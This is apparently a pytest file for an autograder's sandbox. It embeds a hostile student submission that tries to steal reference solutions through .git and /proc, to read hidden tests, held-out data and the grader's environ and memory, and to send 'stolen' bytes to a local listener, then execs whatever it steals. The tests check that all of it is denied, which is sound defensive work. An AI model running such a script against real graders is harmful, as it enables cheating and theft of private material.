"""A student reaches for the grader's private material: the reference (from the checkout,
its .git, the grader's scratch folder, /proc of the grader), hidden tests, the data and
its mirror (the held-out a3 test set), dist/, and the network. Every attempt prints
what it got; the output must show only denials, and the submission must gain nothing
over its honest baseline (the a2 template).

The attack execs any reference source it manages to read, as the attack of issue 10 did
(the a2 template went from 0/42 to 42/42 with the reference read from .git).
"""
import os
import socket
import threading

import pytest
from hostile_support import assert_no_gain, files_owned_by, strict_results
from support import grade

from autograder import config as configmod
from autograder.config import ROOT
from autograder.sandbox import confine

A2 = configmod.load("a2")
MIRROR = os.path.normpath(os.path.join(ROOT, "..", "shared", "data"))
HELD_OUT = "ud-english-ewt/en_ewt-ud-test.conllu"

pytestmark = pytest.mark.skipif(os.geteuid() != 0 and confine.landlock_abi() < 1,
                                reason="neither a user drop (root) nor Landlock: nothing to test")

ATTACK = r'''
import os as _os, socket as _socket, subprocess as _sp
_REPORT = []
_STOLEN = []


def _try(label, fn):
    try:
        got = fn()
    except BaseException as _e:  # what a student sees: the error's type
        _REPORT.append("DENIED %s: %s" % (label, type(_e).__name__))
        return None
    _REPORT.append("STOLE %s: %r" % (label, str(got)[:60]))
    return got


def _read(path):
    with open(path, "rb") as _f:
        return _f.read(1 << 20).decode("utf-8", "replace")


def _git_show(rel):
    return _sp.run(["git", "--git-dir", CHECKOUT + "/.git", "show", "HEAD:" + rel],
                   capture_output=True, check=True, text=True, timeout=10).stdout


_ppid = _os.getppid()
_scratch = _os.path.dirname(_os.getcwd())
_roots = [CHECKOUT, "/proc/%d/cwd" % _ppid, "/proc/%d/cwd/source" % _ppid,
          "/proc/%d/root%s" % (_ppid, CHECKOUT)]
for _name in FILES:
    for _root in _roots:
        _STOLEN.append(_try("reference " + _root + "/solutions/a2/" + _name,
                            lambda: _read(_root + "/solutions/a2/" + _name)))
    _STOLEN.append(_try("reference in the grader's scratch " + _name,
                        lambda: _read(_scratch + "/reference/" + _name)))
    _STOLEN.append(_try("reference from .git " + _name, lambda: _git_show("solutions/a2/" + _name)))
for _label, _fn in [
        (".git/HEAD", lambda: _read(CHECKOUT + "/.git/HEAD")),
        (".git/objects", lambda: _os.listdir(CHECKOUT + "/.git/objects")),
        ("hidden tests", lambda: _os.listdir(CHECKOUT + "/assignments/a2/tests/hidden")),
        ("data", lambda: _os.listdir(CHECKOUT + "/data")),
        ("held-out a3 test set", lambda: _read(CHECKOUT + "/data/" + HELD_OUT)),
        ("mirror", lambda: _os.listdir(MIRROR)),
        ("held-out a3 test set in the mirror", lambda: _read(MIRROR + "/" + HELD_OUT)),
        ("dist", lambda: _os.listdir(CHECKOUT + "/dist")),
        ("(Landlock) the checkout", lambda: _os.listdir(CHECKOUT)),
        ("the grader's scratch", lambda: _os.listdir(_scratch)),
        ("the upload copy", lambda: _os.listdir(_scratch + "/upload")),
        ("(Landlock) /tmp", lambda: _os.listdir("/tmp")),
        ("grader environ", lambda: _read("/proc/%d/environ" % _ppid)),
        ("grader memory", lambda: _read("/proc/%d/mem" % _ppid)),
        ("grader maps", lambda: _read("/proc/%d/maps" % _ppid)),
        ("grader fds", lambda: _os.listdir("/proc/%d/fd" % _ppid)),
        ("grader cwd", lambda: _os.listdir("/proc/%d/cwd" % _ppid)),
        ("(network) tcp to the grader's host", lambda: _socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"stolen")),
        ("(network) udp out", lambda: _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", PORT))),
        ("dns", lambda: _socket.getaddrinfo("example.com", 80)),
        ("signal the grader", lambda: _os.kill(_ppid, 0))]:
    _try(_label, _fn)
print("ATTACK REPORT\n" + "\n".join(_REPORT))
for _src in _STOLEN:  # what a successful theft would earn
    if _src:
        try:
            exec(compile(_src, "<stolen>", "exec"), globals())
        except BaseException:
            pass
'''


def attack_source(port):
    header = (f"CHECKOUT = {ROOT!r}\nMIRROR = {MIRROR!r}\nHELD_OUT = {HELD_OUT!r}\n"
              f"FILES = {[f for f in A2.student_files]!r}\nPORT = {port}\n")
    with open(os.path.join(A2.template_dir, "word2vec.py")) as f:
        return header + ATTACK + "\n" + f.read()


class Listener:
    """A TCP and UDP port on localhost that records whatever reaches it."""

    def __init__(self):
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.received = []
        for target in (self._tcp, self._udp):
            threading.Thread(target=target, daemon=True).start()

    def _tcp(self):
        try:
            while True:
                conn, _ = self.tcp.accept()
                self.received.append(("tcp", conn.recv(100)))
        except OSError:
            pass

    def _udp(self):
        try:
            while True:
                self.received.append(("udp", self.udp.recv(100)))
        except OSError:
            pass

    def close(self):
        self.tcp.close()
        self.udp.close()


def template_submission(folder, word2vec=None):
    os.makedirs(folder)
    for rel in A2.student_files:
        with open(os.path.join(A2.template_dir, rel)) as f:
            text = f.read()
        with open(os.path.join(folder, rel), "w") as f:
            f.write(word2vec if word2vec is not None and rel == "word2vec.py" else text)
    return str(folder)


def report_of(res):
    lines = []
    for t in [res, *res["tests"]]:
        text = t.get("output", "")
        if "ATTACK REPORT" in text:
            lines += [ln for ln in text.split("ATTACK REPORT", 1)[1].splitlines()
                      if ln.startswith(("STOLE", "DENIED"))]
    return lines


@pytest.fixture
def dist():
    """dist/ with a zip in it, as `nlpgrade release` leaves it (made here when missing;
    only what this fixture made is removed)."""
    folder = os.path.join(ROOT, "dist")
    made_folder = not os.path.isdir(folder)
    os.makedirs(folder, exist_ok=True)
    marker = os.path.join(folder, "nlpgrade-hostile-test-a2-autograder.zip")
    with open(marker, "wb") as f:
        f.write(b"PK\x05\x06" + bytes(18))
    os.chmod(marker, 0o644)  # as the default umask would have made it
    yield folder
    os.remove(marker)
    if made_folder:
        try:
            os.rmdir(folder)
        except OSError:
            pass


def test_private_material_stays_private(tmp_path, dist):
    baseline = grade(template_submission(tmp_path / "honest"), results_path=str(tmp_path / "honest.json"))
    listener = Listener()
    try:
        sub = template_submission(tmp_path / "attack", word2vec=attack_source(listener.port))
        res = grade(sub, results_path=str(tmp_path / "attack.json"))
    finally:
        listener.close()
    res = strict_results(tmp_path / "attack.json")
    report = report_of(res)
    assert len(report) >= 3 * len(A2.student_files) + 20, report  # the attack did run
    layers = res["extra_data"]["sandbox_isolation"]
    landlock, seccomp = (layers[k].startswith("on") for k in ("landlock", "seccomp"))
    # listing public folders is denied only by Landlock, the network only by seccomp;
    # the private material by permissions as well (NLPGRADE_CONFINE=none shows it)
    stolen = [ln for ln in report if not ln.startswith("DENIED")
              and (landlock or "(Landlock)" not in ln) and (seccomp or "(network)" not in ln)]
    assert stolen == [], "\n".join(stolen)
    assert listener.received == [] or not seccomp
    assert_no_gain(res, baseline)
    assert "DENIED dist: PermissionError" in report
    isolation = res["extra_data"]["sandbox_isolation"]
    if os.geteuid() == 0:
        uid = int(isolation["user"].split()[-1])
        assert files_owned_by(uid) == []


@pytest.fixture(scope="module")
def a2_zip():
    import shutil
    import tempfile

    from autograder.release import autograder_zip, write_zip

    folder = tempfile.mkdtemp(prefix="nlpgrade-hostile-emulate-")
    yield write_zip(os.path.join(folder, "a2-autograder.zip"), autograder_zip.entries(A2))
    shutil.rmtree(folder, ignore_errors=True)


def emulated(zip_path, submission, results_path, setup):
    from autograder import emulate

    args = [zip_path, submission, "--results", str(results_path)] + (["--setup"] if setup else [])
    assert emulate.main(args) == 0
    return strict_results(results_path)


@pytest.mark.parametrize("setup", [
    False,
    pytest.param(True, marks=[pytest.mark.slow, pytest.mark.skipif(
        os.environ.get("NLPGRADE_SLOW") != "1",
        reason="installs every dependency into a fresh venv (minutes); NLPGRADE_SLOW=1")])])
def test_private_material_stays_private_on_the_gradescope_layout(tmp_path, a2_zip, setup, capfd):
    """The same attack through `nlpgrade emulate`: the grader's cwd is the emulated
    /autograder, the reference in its source/ folder."""
    baseline = emulated(a2_zip, template_submission(tmp_path / "honest"), tmp_path / "honest.json", setup)
    listener = Listener()
    try:
        sub = template_submission(tmp_path / "attack", word2vec=attack_source(listener.port))
        res = emulated(a2_zip, sub, tmp_path / "attack.json", setup)
    finally:
        listener.close()
    capfd.readouterr()
    report = report_of(res)
    assert any("/cwd/source/solutions/a2/" in ln for ln in report), report  # Gradescope's place
    layers = res["extra_data"]["sandbox_isolation"]
    landlock, seccomp = (layers[k].startswith("on") for k in ("landlock", "seccomp"))
    stolen = [ln for ln in report if not ln.startswith("DENIED")
              and (landlock or "(Landlock)" not in ln) and (seccomp or "(network)" not in ln)]
    assert stolen == [], "\n".join(stolen)
    assert listener.received == [] or not seccomp
    assert_no_gain(res, baseline)
